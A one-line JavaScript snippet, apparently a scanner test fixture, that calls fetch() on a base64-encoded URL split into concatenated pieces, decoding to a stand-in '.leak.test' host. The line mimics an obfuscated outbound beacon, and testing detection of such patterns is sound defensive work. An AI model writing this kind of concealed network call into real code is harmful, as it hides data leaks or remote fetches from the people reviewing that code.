fetch(atob("aHR0cHM6Ly" + "9qcy1mb2xkLWF0b2ItY29uY2F0ZW5hdGVkLmxlYWsudGVzdC8="))
